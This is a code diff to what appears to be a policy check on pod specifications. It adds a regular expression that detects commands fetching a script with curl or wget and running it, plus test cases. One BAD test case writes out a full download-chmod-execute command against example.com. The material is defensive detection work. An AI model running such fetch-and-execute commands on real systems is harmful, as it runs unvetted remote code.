@@ -27,6 +27,8 @@ _FETCHED = (
     rf"|{_START}(curl|wget)\s[^;&]*\|\s*(\S*/)?(python[0-9.]*|perl|ruby|node)(\s+-)?\s*([;&|\"')]|$)"
     r"|(ba|z|da)?sh\s+(-c\s+)?[\"']?(<\(|\$\(|`)\s*(curl|wget)\s"
     r"|(^|[\s;&|])(eval|source|\.)\s+[\"']?(<\(|\$\(|`)\s*(curl|wget)\s"
+    r"|(^|[\s/;&|(\"'`])(curl|wget)\s[^;&|]*\.(sh|bash|pl|run)\b[^;&|]*(;|&&|\n)\s*(chmod\s+\S+\s+|((ba|z|da|k)?sh|source|\.|perl)"
+    r"\s+(-\S+\s+)*)?\S+\.(sh|bash|pl|run)\b"
     r"|exec\(\s*(urllib\.request\.)?(urlopen|requests\.get)\("
 )
 """What is fetched goes to an interpreter."""
@@ -77,6 +79,10 @@ CONTROL = Control(
         },
         expression=_EXPRESSION,
         message="a command installs packages, or runs what it fetches",
+    ),
+    not_enforced=(
+        "where a command fetches a file whose name says of no script, and runs it later: no text of a "
+        "command says that both are one file",
     ),
     cases=(
         Case("nothing said", Verdict.GOOD, pod(args=["--model", "/mnt/models"])),
@@ -131,6 +137,22 @@ CONTROL = Control(
             "in a hook",
             Verdict.BAD,
             pod(lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "pip install x"]}}}),
+        ),
+        Case(
+            "into a file that is then run",
+            Verdict.BAD,
+            pod(
+                command=[
+                    "sh",
+                    "-c",
+                    "wget -O /tmp/i.sh https://example.com/i.sh && chmod +x /tmp/i.sh && /tmp/i.sh",
+                ]
+            ),
+        ),
+        Case(
+            "a script of the image after a file is fetched",
+            Verdict.GOOD,
+            pod(command=["sh", "-c", "curl -o /tmp/a.json http://chat.team-a.svc/a.json && sh /app/run.sh"]),
         ),
         Case("in a variable", Verdict.BAD, pod(env=[{"name": "PRE", "value": "pip install x"}])),
         Case("in a model's own arguments", Verdict.BAD, service(command=["sh", "-c", "pip install x"])),
